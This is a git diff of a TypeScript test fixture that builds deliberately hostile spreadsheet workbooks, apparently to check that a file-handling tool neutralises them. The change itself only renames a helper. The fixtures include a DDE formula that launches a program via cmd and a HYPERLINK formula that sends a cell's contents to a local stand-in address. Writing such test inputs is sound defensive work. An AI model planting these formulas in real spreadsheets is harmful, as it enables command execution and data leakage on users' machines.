@@ -3,7 +3,7 @@ import type { ErrorName } from '../../../src/contract/errors.ts';
 import { random } from '../random.ts';
 import { archive } from './archive.ts';
 import { archiveLies } from './archiveLies.ts';
-import { bookOf, partsOf, paths, sheetOf, soundRows, textCell } from './bookOf.ts';
+import { bookOf, partsOf, paths, sheetOf, textCell, validRows } from './bookOf.ts';
 import { sheetTricks } from './sheetTricks.ts';
 
 /** A workbook that means no good, and what is to become of it. */
@@ -127,7 +127,7 @@ function inert(): HostileWorkbook[] {
   const formula = (code: string, text: string): Buffer =>
     bookOf(code, {
       [paths.sheet]: sheetOf(
-        `${soundRows(code)}<row r="3">${textCell('A3', `${code}F`)}<c r="B3" t="str"><f>${text}</f><v>x</v></c></row>`,
+        `${validRows(code)}<row r="3">${textCell('A3', `${code}F`)}<c r="B3" t="str"><f>${text}</f><v>x</v></c></row>`,
       ),
     });
   const files: Readonly<Record<string, (code: string) => Buffer>> = {
@@ -135,7 +135,7 @@ function inert(): HostileWorkbook[] {
     'a link that leaks': (code) => formula(code, 'HYPERLINK("http://127.0.0.1:9/?"&amp;A1,"x")'),
     'a formula that runs a program': (code) => formula(code, "cmd|' /C calc'!A0"),
     'a text that looks like one': (code) =>
-      bookOf(code, { [paths.sheet]: sheetOf(soundRows(code).replace('Sound', "=cmd|' /C calc'!A0")) }),
+      bookOf(code, { [paths.sheet]: sheetOf(validRows(code).replace('Sound', "=cmd|' /C calc'!A0")) }),
     'a link to another workbook': (code) =>
       bookOf(code, { 'xl/externalLinks/externalLink1.xml': '<externalLink/>', 'xl/connections.xml': '<connections/>' }),
     macros: (code) => bookOf(code, { 'xl/vbaProject.bin': Buffer.alloc(4_096, 7) }),
